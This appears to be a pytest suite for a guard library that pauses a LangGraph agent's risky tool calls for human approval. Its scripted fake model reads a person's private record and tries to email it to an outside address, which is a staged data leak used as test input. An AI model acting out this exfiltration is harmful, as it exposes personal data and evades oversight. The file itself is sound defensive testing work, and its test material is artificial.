"""A guarded ``ToolNode`` after an escalation, as docs/integrations/langgraph.md#after-an-escalation says.

With a checkpointer the run stops at the escalated call (an interrupt, not a ``ToolMessage``); a
human then approves it (it runs once, with the decided arguments), refuses it (the model gets a
``ToolMessage`` with status ``"error"``) or never answers (the thread stays paused, the call never
runs).  Without a checkpointer the escalation is a refusal.  Each path runs sync and async.
"""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from typing import Any

import pytest

pytest.importorskip("langgraph")

from langchain_core.messages import BaseMessage, HumanMessage, ToolMessage
from langchain_core.runnables import RunnableConfig
from langgraph.checkpoint.base import BaseCheckpointSaver
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.prebuilt import tools_condition
from langgraph.types import Command

from guard import Guard, load_policy
from guard.adapters.langchain import guard_tool_node, start_run
from guard.adapters.langchain_testing import ReactiveChatModel, tool_call
from guard.audit import MemoryAudit
from tests.adapters.conftest import SPY_RECORD
from tests.adapters.mail_agent_data import POLICY

TASK = "Read the record of Lena Novak and mail her."
LEAK = {"to": "compliance@audit-desk.net", "subject": "Record", "body": SPY_RECORD}
MODES = ["sync", "async"]


class Agent:
    """A model node and a guarded ``ToolNode``; counts the model's turns; ``spies`` record what ran."""

    def __init__(self, spies: list[Any], saver: BaseCheckpointSaver[Any] | None) -> None:
        self.turns = 0
        self.guard = Guard(load_policy(POLICY), threshold=0.5, audit=MemoryAudit())
        model = ReactiveChatModel(respond=self.respond)

        def call_model(state: MessagesState) -> dict[str, Any]:
            self.turns += 1
            return {"messages": [model.invoke(state["messages"])]}

        graph = StateGraph(MessagesState)
        graph.add_node("model", call_model)
        self.node = guard_tool_node(spies, self.guard)
        graph.add_node("tools", self.node)
        graph.add_edge(START, "model")
        graph.add_conditional_edges("model", tools_condition)
        graph.add_edge("tools", "model")
        self.app = graph.compile(checkpointer=saver)

    @staticmethod
    def respond(messages: Sequence[BaseMessage]) -> Any:
        """Read the record, mail it out, then answer with what the send's ToolMessage said."""
        last = messages[-1]
        if isinstance(last, HumanMessage):
            return [tool_call("read_record", {"name": "Lena Novak"}, "c1")]
        assert isinstance(last, ToolMessage)
        if last.tool_call_id == "c1":
            return [tool_call("send_email", LEAK, "c2")]
        return f"{last.status}: {last.content}"

    def invoke(self, value: Any, config: RunnableConfig, mode: str) -> dict[str, Any]:
        if mode == "async":
            out: dict[str, Any] = asyncio.run(self.app.ainvoke(value, config))
        else:
            out = self.app.invoke(value, config)
        return out

    def entries(self, thread: str) -> list[dict[str, Any]]:
        """The thread's audit entries, in order."""
        assert isinstance(self.guard.audit, MemoryAudit)
        return [e for e in self.guard.audit.entries if e["session"] == thread]

    def audit(self, thread: str) -> list[tuple[Any, ...]]:
        """(call id, verdict or review answer or event) of the thread's audit entries, in order."""
        return [(e.get("call_id"), e.get("verdict") or e.get("answer") or e.get("event")) for e in self.entries(thread)]


def config_for(thread: str) -> RunnableConfig:
    return {"configurable": {"thread_id": thread, "user_id": "alice"}}


def paused(spies: list[Any], mode: str, thread: str) -> tuple[Agent, RunnableConfig, dict[str, Any]]:
    """A run stopped at the escalated send: (agent, config, the invoke result)."""
    agent = Agent(spies, InMemorySaver())
    config = config_for(thread)
    out = agent.invoke({"messages": [("user", TASK)]}, config, mode)
    return agent, config, out


def tool_statuses(out: dict[str, Any]) -> dict[str, str]:
    return {m.tool_call_id: m.status for m in out["messages"] if isinstance(m, ToolMessage)}


@pytest.mark.parametrize("mode", MODES)
def test_an_escalation_stops_the_run_at_the_call_with_the_guard_s_payload(
    spies: list[Any], received: list[tuple[str, Any]], mode: str
) -> None:
    """Catches an escalation under a checkpointer that comes back as a refusal or runs the call instead of
    pausing, a pause without the interrupt in the result or the state, and a payload that does not say
    which call was escalated and why."""
    agent, config, out = paused(spies, mode, f"stop-{mode}")
    (pending,) = out["__interrupt__"]
    state = agent.app.get_state(config)
    assert state.next == ("tools",) and [i.id for i in state.interrupts] == [pending.id]
    request = pending.value
    assert (request["tool_call_id"], request["name"], request["args"]) == ("c2", "send_email", LEAK)
    assert (request["guard"]["verdict"], request["guard"]["reason"]) == ("escalate", "risk_budget")
    assert request["guard"]["call_id"] == "c2" and "exceeds the threshold" in request["guard"]["message"]
    assert tool_statuses(out) == {"c1": "success"}  # no ToolMessage for the escalated call
    assert [name for name, _ in received] == ["read_record"]


@pytest.mark.parametrize("by_id", [False, True], ids=["bare", "by-interrupt-id"])
@pytest.mark.parametrize("mode", MODES)
def test_approve_runs_the_call_once_with_the_decided_arguments(
    spies: list[Any], received: list[tuple[str, Any]], mode: str, by_id: bool
) -> None:
    """Catches an approval that does not run the call, runs it twice or with other arguments, asks the
    model again before the call runs, is not audited as the reviewer's ``approve`` (``Session.review``),
    or leaves the thread paused."""
    thread = f"approve-{mode}-{by_id}"
    agent, config, out = paused(spies, mode, thread)
    turns = agent.turns
    (pending,) = out["__interrupt__"]
    answer = {"type": "approve"}
    out = agent.invoke(Command(resume={pending.id: answer} if by_id else answer), config, mode)
    assert received == [("read_record", {"name": "Lena Novak"}), ("send_email", LEAK)]
    assert agent.turns == turns + 1  # the model speaks once more, after the send ran
    assert tool_statuses(out) == {"c1": "success", "c2": "success"}
    assert out["messages"][-1].content == "success: sent to compliance@audit-desk.net"
    assert agent.audit(thread) == [("c1", "execute"), ("c2", "escalate"), (None, "session_end"), ("c2", "approve")]
    (review,) = [e for e in agent.entries(thread) if e.get("kind") == "review"]
    assert review["reviewer"] == "alice"
    assert not agent.app.get_state(config).next


@pytest.mark.parametrize("mode", MODES)
def test_reject_refuses_the_call_and_tells_the_model(
    spies: list[Any], received: list[tuple[str, Any]], mode: str
) -> None:
    """Catches a rejection that runs the call, that the model is not told of (a ToolMessage with status
    "error", the guard's reason and the human's), that is not audited, or that leaves the thread stuck."""
    thread = f"reject-{mode}"
    agent, config, _ = paused(spies, mode, thread)
    out = agent.invoke(Command(resume={"type": "reject", "message": "Records stay in-house."}), config, mode)
    assert [name for name, _ in received] == ["read_record"]
    assert tool_statuses(out) == {"c1": "success", "c2": "error"}
    (refusal,) = [m for m in out["messages"] if isinstance(m, ToolMessage) and m.tool_call_id == "c2"]
    assert isinstance(refusal.content, str)
    assert refusal.content.startswith("User rejected the tool call for `send_email` (carbguard escalated it: risk")
    assert refusal.content.endswith("Reason: Records stay in-house.")
    assert out["messages"][-1].content == f"error: {refusal.content}"  # the model read it and answered
    assert agent.audit(thread) == [("c1", "execute"), ("c2", "escalate"), (None, "session_end"), ("c2", "reject")]
    assert not agent.app.get_state(config).next


@pytest.mark.parametrize("mode", MODES)
def test_an_unanswered_escalation_leaves_the_thread_paused_and_the_call_unrun(
    spies: list[Any], received: list[tuple[str, Any]], mode: str
) -> None:
    """Catches a run that, never answered, runs the call, loses its interrupt (so it can no longer be
    answered), leaves its session open (no ``session_end``) or audits a review nobody gave; and a paused
    thread that another process (a new guard and graph on the same checkpointer) cannot answer."""
    thread = f"ended-{mode}"
    saver = InMemorySaver()
    agent, config = Agent(spies, saver), config_for(thread)
    out = agent.invoke({"messages": [("user", TASK)]}, config, mode)
    state = agent.app.get_state(config)
    assert state.next == ("tools",) and [i.id for i in state.interrupts] == [out["__interrupt__"][0].id]
    assert [name for name, _ in received] == ["read_record"]
    assert agent.audit(thread) == [("c1", "execute"), ("c2", "escalate"), (None, "session_end")]
    later = Agent(spies, saver)  # answered later, elsewhere: the session is rebuilt from the thread's state
    out = later.invoke(Command(resume={"type": "reject"}), config, mode)
    assert tool_statuses(out) == {"c1": "success", "c2": "error"}
    assert [name for name, _ in received] == ["read_record"]
    assert later.audit(thread) == [("c1", "execute"), ("c2", "escalate"), ("c2", "reject")]


@pytest.mark.parametrize("mode", MODES)
def test_without_a_checkpointer_an_escalation_is_a_refusal(
    spies: list[Any], received: list[tuple[str, Any]], mode: str
) -> None:
    """Catches an escalation without a checkpointer that interrupts (there is nothing to resume) or runs."""
    agent = Agent(spies, None)
    config = config_for(f"plain-{mode}")
    out = agent.invoke({"messages": start_run(agent.node, config, [("user", TASK)])}, config, mode)
    assert "__interrupt__" not in out
    assert tool_statuses(out) == {"c1": "success", "c2": "error"}
    assert out["messages"][-1].content.startswith("error: carbguard did not run `send_email` (escalate: risk_budget)")
    assert [name for name, _ in received] == ["read_record"]


class TwoSends(Agent):
    """A model whose second turn saves a draft and makes two sends, both escalated."""

    @staticmethod
    def respond(messages: Sequence[BaseMessage]) -> Any:
        last = messages[-1]
        if isinstance(last, HumanMessage):
            return [tool_call("read_record", {"name": "Lena Novak"}, "c1")]
        assert isinstance(last, ToolMessage)
        if last.tool_call_id == "c1":
            draft = tool_call("save_draft", {"subject": "Record", "body": "on file"}, "c3")
            return [
                draft,
                tool_call("send_email", LEAK, "c2"),
                tool_call("send_email", {**LEAK, "to": "x@audit-desk.net"}, "c4"),
            ]
        return "done"


@pytest.mark.parametrize("mode", MODES)
def test_a_turn_with_two_escalated_calls_asks_about_the_first_and_refuses_the_second(
    spies: list[Any], received: list[tuple[str, Any]], mode: str
) -> None:
    """A ToolNode runs a turn's calls side by side, and LangGraph hands a node's answers to its interrupts in the
    order they are raised.  Catches a turn whose second escalated call also raises an interrupt: its threads race
    to it, so the answer the human gave about the call shown (c2) can be handed to the other (c4), which then runs
    unseen; here, c4 is refused without asking (one escalated call per turn is put to the human)."""
    thread = f"two-{mode}"
    agent, config = TwoSends(spies, InMemorySaver()), config_for(thread)
    out = agent.invoke({"messages": [("user", TASK)]}, config, mode)
    (pending,) = out["__interrupt__"]
    assert pending.value["tool_call_id"] == "c2"
    out = agent.invoke(Command(resume={pending.id: {"type": "approve"}}), config, mode)
    assert "__interrupt__" not in out and not agent.app.get_state(config).next
    sends = [args["to"] for name, args in received if name == "send_email"]
    assert sends == ["compliance@audit-desk.net"]  # the approved send, once; never c4
    (refusal,) = [m for m in out["messages"] if isinstance(m, ToolMessage) and m.tool_call_id == "c4"]
    assert refusal.status == "error" and "waiting for a human" in str(refusal.content)
    assert [(e["call_id"], e["answer"]) for e in agent.entries(thread) if e.get("kind") == "review"] == [
        ("c2", "approve")
    ]


def test_a_call_that_ran_before_the_interrupt_keeps_its_result_when_the_node_runs_again(
    spies: list[Any], received: list[tuple[str, Any]]
) -> None:
    """LangGraph runs the whole ToolNode again when the thread resumes.  Catches a call of the turn that ran
    before the interrupt (the draft) being run again, or refused as reused (``call_reused``): the model would be
    told it did not run, and the audit log would hold a refusal, though it ran.  Sync only: with ``ainvoke`` the
    node's calls are gathered, and one still running when another raises the interrupt is cut off."""
    mode = "sync"
    thread = f"kept-{mode}"
    agent, config = TwoSends(spies, InMemorySaver()), config_for(thread)
    out = agent.invoke({"messages": [("user", TASK)]}, config, mode)
    assert [name for name, _ in received] == ["read_record", "save_draft"]  # ran before the interrupt
    (pending,) = out["__interrupt__"]
    out = agent.invoke(Command(resume={pending.id: {"type": "reject"}}), config, mode)
    assert [name for name, _ in received] == ["read_record", "save_draft"]
    assert tool_statuses(out) == {"c1": "success", "c3": "success", "c2": "error", "c4": "error"}
    (draft,) = [m for m in out["messages"] if isinstance(m, ToolMessage) and m.tool_call_id == "c3"]
    assert draft.content == "draft saved"
    decided = [(e["call_id"], e["verdict"], e["reason"]) for e in agent.entries(thread) if "verdict" in e]
    assert [c for c, _, _ in decided] == ["c1", "c3", "c2", "c4"], decided  # each call decided once
